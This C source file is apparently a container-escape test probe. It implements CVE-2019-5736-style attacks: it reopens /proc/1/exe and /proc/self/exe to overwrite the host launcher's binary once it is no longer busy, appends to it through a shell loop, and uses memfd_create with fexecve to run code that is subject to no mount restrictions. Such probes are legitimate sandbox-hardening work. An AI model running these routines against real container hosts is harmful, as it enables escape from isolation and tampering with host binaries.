/* Overwriting the launcher's binary on the host through a process that runs it: CVE-2019-5736. A running binary cannot
 * be written, so the attack holds on to the file until the process has gone on to something else. */
#include "tests/escape/probe.h"

#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t released;

static void on_release(int sig)
{
	(void)sig;
	released = 1;
}

static void write_when_free(int held)
{
	static const struct timespec tick = {.tv_nsec = 2000000};
	char path[64];
	int fd = -1;

	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	for (int i = 0; i < 1000 && fd < 0; i++) {
		fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY)
			verdict("/proc/1/exe for writing", -1);
		nanosleep(&tick, NULL);
	}
	verdict("write to the host's binary", fd < 0 ? -1 : write(fd, "owned", 5));
}

/* overwrite: PID 1's. */
static void overwrite(char **args)
{
	int held = open("/proc/1/exe", O_PATH | O_CLOEXEC);
	int fd = held < 0 ? -1 : open("/proc/1/exe", O_RDONLY | O_CLOEXEC);

	(void)args;
	if (fd < 0)
		verdict("/proc/1/exe", fd);
	kill(1, SIGUSR1);
	write_when_free(held);
}

/* naive-init ATTACKER: a launcher that can be looked into, as PID 1; goes on to another program when it is told to. */
static void naive_init(char **args)
{
	char *const attack[] = {"exe", "overwrite", NULL}, *const next[] = {"sleep", "0.5", NULL};

	signal(SIGUSR1, on_release);
	if (fork() == 0) {
		execv(args[0], attack);
		_exit(PROBE_UNTRIED);
	}
	while (!released)
		pause();
	execvp(next[0], next);
	_exit(PROBE_UNTRIED);
}

/* self: what a script with "#!/proc/self/exe" makes of the process that was to execute the script. The file is held by
 * a shell, which is another program. */
static void overwrite_self(char **args)
{
	static const char loop[] =
		"for i in 1 2 3 4 5 6 7 8 9; do { echo owned >>/proc/self/fd/9; } 2>/dev/null && exit 0;"
		" sleep 0.02; done; exit 1";
	int held = open("/proc/self/exe", O_PATH);

	(void)args;
	if (held < 0 || dup2(held, 9) < 0)
		verdict("/proc/self/exe", -1);
	execl("/bin/sh", "sh", "-c", loop, NULL);
	untried("/bin/sh: %s", errno_name(errno));
}

/* naive-exec SCRIPT: a launcher that does no more than execute what it is told. */
static void naive_exec(char **args)
{
	char *const argv[] = {args[0], NULL};

	execv(args[0], argv);
	untried("%s: %s", args[0], errno_name(errno));
}

/* memfd PROGRAM ATTACK: a program that lies in no directory, and so under no mount's rules. */
static void by_memfd(char **args)
{
	char *const argv[] = {args[0], args[1], NULL}, *const envp[] = {NULL};
	int from = open(args[0], O_RDONLY | O_CLOEXEC);
	int to = memfd_create("attack", MFD_CLOEXEC);

	if (from < 0 || to < 0)
		untried("%s: %s", args[0], errno_name(errno));
	while (sendfile(to, from, NULL, 1 << 20) > 0)
		;
	fexecve(to, argv, envp);
	verdict("exec of a memfd", -1);
}

static const struct attack attacks[] = {
	{"overwrite", 0, overwrite},
	{"naive-init", 1, naive_init},
	{"./self", 0, overwrite_self},
	{"memfd", 2, by_memfd},
	{"naive-exec", 1, naive_exec},
};

ATTACK_MAIN(attacks)
